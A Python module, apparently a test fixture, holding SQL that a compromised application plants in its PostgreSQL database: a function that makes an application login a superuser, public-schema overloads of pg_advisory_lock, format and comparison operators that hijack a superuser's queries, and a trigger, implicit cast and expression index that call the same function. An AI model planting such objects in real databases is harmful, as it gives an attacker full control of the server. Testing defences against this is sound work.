"""Code that a compromised app leaves in its own database for the superuser to run at the next `up`."""

# Does what only a superuser may, if a superuser runs it.
TRAP = """
CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
  ALTER ROLE {login} SUPERUSER;
  RETURN true;
EXCEPTION WHEN insufficient_privilege THEN RETURN true;
END $$;
"""
# Their names and arguments match the steps' queries better than the built-in ones do.
BETTER_MATCHES = """
CREATE FUNCTION public.pg_advisory_lock(int) RETURNS void LANGUAGE sql AS 'SELECT public.trap()';
CREATE FUNCTION public.format(text, name) RETURNS text LANGUAGE sql AS 'SELECT public.trap()::text';
CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE sql AS 'SELECT public.trap()::text';
CREATE FUNCTION public.is_it(oid, int) RETURNS boolean LANGUAGE sql AS 'SELECT public.trap()';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = int, PROCEDURE = public.is_it);
CREATE FUNCTION public.is_it(name, name) RETURNS boolean LANGUAGE sql AS 'SELECT public.trap()';
CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = name, PROCEDURE = public.is_it);
CREATE FUNCTION public.is_it("char", text) RETURNS boolean LANGUAGE sql AS 'SELECT public.trap()';
CREATE OPERATOR public.= (LEFTARG = "char", RIGHTARG = text, PROCEDURE = public.is_it);
"""
OBJECTS = """
CREATE TABLE public.kept (id int PRIMARY KEY);
CREATE FUNCTION public.on_change() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.trap(); RETURN NEW; END';
CREATE TRIGGER kept AFTER INSERT OR UPDATE ON public.kept FOR EACH ROW EXECUTE FUNCTION public.on_change();
CREATE TYPE public.pair AS (a int);
CREATE FUNCTION public.as_text(public.pair) RETURNS text LANGUAGE sql AS 'SELECT public.trap()::text';
CREATE CAST (public.pair AS text) WITH FUNCTION public.as_text(public.pair) AS IMPLICIT;
CREATE INDEX ON public.kept ((id + 1));
"""
